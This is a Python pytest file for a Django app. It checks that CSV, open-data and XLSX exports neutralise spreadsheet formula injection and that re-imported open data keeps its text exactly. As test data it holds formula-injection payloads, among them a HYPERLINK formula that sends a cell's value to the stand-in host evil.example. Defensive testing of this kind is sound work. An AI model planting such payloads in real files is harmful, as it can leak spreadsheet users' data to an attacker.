"""Issue 11, point 6: a matrix's text (legal references, sources, remarks) reaches the CSV
exports of one matrix, the open data and the XLSX as text, never as a formula; and the open data
re-imported gives back the texts exactly, without the quote that kept them from being formulas."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from states.matrices import services as services
from states.matrices.models import MatrixEntry
from tests.states.test_matrix_exports import content

FORMULA = '=HYPERLINK("http://evil.example/x?"&B2,"Open")'


@pytest.fixture
def matrix_with_formulas(build_matrix):
    matrix = build_matrix("CHN", "published", marks={"OP1-N-NPT": "X"})
    # Straight to the rows: the service accepts any text, which is the point of the test.
    MatrixEntry.objects.filter(matrix=matrix, field__code="OP1-N-NPT").update(
        legal_reference=FORMULA, source="+1+cmd", remarks="@SUM(1+1)"
    )
    return matrix


def cells(response) -> set[str]:
    body = content(response)
    assert body.startswith("\ufeff".encode())
    return {cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row}


@pytest.mark.django_db
def test_a_matrix_export_and_the_open_data_carry_formulas_as_text(
    client, api, matrix_with_formulas
):
    for url in (
        f"/matrices/{matrix_with_formulas.pk}/export.csv",
        f"/api/v1/matrices/{matrix_with_formulas.pk}/csv/",
        "/matrices/open-data.csv",
        "/api/v1/matrices/open-data/",
    ):
        found = cells(client.get(url) if url.startswith("/matrices") else api.get(url))
        assert {"'" + FORMULA, "'+1+cmd"} <= found, url
        assert not {c for c in found if c.startswith(("=", "+", "@"))}, url


@pytest.mark.django_db
def test_the_xlsx_holds_formulas_as_text_never_as_formulas(client, matrix_with_formulas):
    response = client.get(f"/matrices/{matrix_with_formulas.pk}/export.xlsx")
    with zipfile.ZipFile(io.BytesIO(content(response))) as workbook:
        sheets = [
            workbook.read(name).decode()
            for name in workbook.namelist()
            if name.startswith("xl/worksheets/sheet")
        ]

    assert sheets
    assert not [sheet for sheet in sheets if "<f>" in sheet]
    assert any('t="inlineStr"><is><t>=HYPERLINK(' in sheet for sheet in sheets)  # text, whole


ROUND_TRIP = {
    "OP1-N-NPT": ("=SUM(A1:A9)", "+44 20 7946 0000"),
    "OP1-C-CWC": ("-see the annex", "@ministry of foreign affairs"),
    "OP2-N-ACQ-LF": ("'=quoted by the state itself", "-12"),
    "OP2-N-ACQ-EN": ("@SUM(1+1)", FORMULA),
}
# Not a leading tab or carriage return here: the import strips the blanks around every value, a
# rule of its own (the writer and reader alone keep them: tests/assistance/test_csv_exports.py).


@pytest.mark.django_db
def test_a_re_imported_open_data_file_keeps_the_texts_exactly_without_the_quotes(
    client, build_matrix, secretariat
):
    matrix = build_matrix("CHN", "published", marks=dict.fromkeys(ROUND_TRIP, "X"))
    for code, (legal_reference, source) in ROUND_TRIP.items():
        MatrixEntry.objects.filter(matrix=matrix, field__code=code).update(
            legal_reference=legal_reference, source=source
        )
    exported = content(client.get("/matrices/open-data.csv")).decode("utf-8")
    assert "'=SUM(A1:A9)" in exported

    (imported,) = services.import_open_data(io.StringIO(exported), acting_user=secretariat)

    assert imported.version == matrix.version + 1
    assert {
        entry.field.code: (entry.legal_reference, entry.source)
        for entry in imported.entries.select_related("field").filter(field__code__in=ROUND_TRIP)
    } == ROUND_TRIP
